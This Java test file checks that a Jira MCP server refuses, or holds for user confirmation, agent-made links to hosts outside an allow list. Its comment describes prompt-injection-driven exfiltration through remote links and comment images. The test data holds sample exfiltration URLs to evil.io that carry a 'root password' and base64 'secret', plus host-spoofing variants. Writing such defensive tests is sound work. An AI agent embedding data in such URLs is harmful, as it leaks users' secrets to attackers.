package dev.atlmcp.jira;

import static dev.atlmcp.testing.Mcp.call;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Map;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

import io.quarkus.test.junit.QuarkusTest;

import dev.atlmcp.testing.Mcp;
import dev.atlmcp.testing.Mcp.Transport;
import dev.atlmcp.testing.SandboxReset;

/**
 * After a prompt injection an agent could carry data out in a URL: a remote link to any host, or a comment whose image
 * a reader's browser fetches. Links may point only to the site and the configured hosts; text linking elsewhere waits
 * for the user's confirmation.
 */
@QuarkusTest
class ExfiltrationTest extends SandboxReset {

    private static long writes() {
        return Mcp.sandbox().requests().stream().filter(r -> r.startsWith("POST ") || r.startsWith("PUT ")).count();
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    void aRemoteLinkToAHostOutsideTheListIsRefused(Transport transport) {
        Mcp.sandbox().clearRequests();
        for (String url : new String[] { "https://evil.io/c?d=OPS-5+root+password", "https://github.com@evil.io/x",
                "https://github.com.evil.io/x" }) {
            Mcp.Result refused = call(transport, "jira_add_remote_link", Map.of("issue_key", "OPS-5", "url", url,
                    "title", "Details"));
            assertTrue(refused.isError(), refused::text);
            assertTrue(refused.text().startsWith("Nothing was sent: url points to "), refused.text());
            assertTrue(refused.text().endsWith("Ask an administrator to add the host to MCP_POLICY_LINK_HOSTS if "
                    + "agents should link there."), refused.text());
        }
        assertEquals(0, writes());
        assertFalse(call(transport, "jira_add_remote_link", Map.of("issue_key", "OPS-5", "url",
                "https://github.com/acme/checkout/pull/42", "title", "PR 42")).isError());
    }

    @ParameterizedTest
    @EnumSource(Transport.class)
    void textLinkingOutsideTheListWaitsForConfirmation(Transport transport) {
        Mcp.sandbox().clearRequests();
        Mcp.Result held = call(transport, "jira_add_comment", Map.of("issue_key", "OPS-5", "body",
                "Status: ![ok](https://img.evil.io/p.png?d=c2VjcmV0) see [PR](https://github.com/acme/app/pull/4)"));
        assertFalse(held.isError(), held::text);
        assertTrue(held.text().startsWith("Confirmation needed: nothing was sent yet. This call would add a comment to "
                + "OPS-5, with links to img.evil.io (outside the hosts agents may link to).\n"), held.text());
        assertEquals(0, writes());
        Mcp.Result sent = call(transport, "jira_add_comment", Map.of("issue_key", "OPS-5", "body",
                "See [PR 4](https://github.com/acme/app/pull/4)."));
        assertTrue(sent.text().startsWith("Added comment "), sent.text());
    }
}
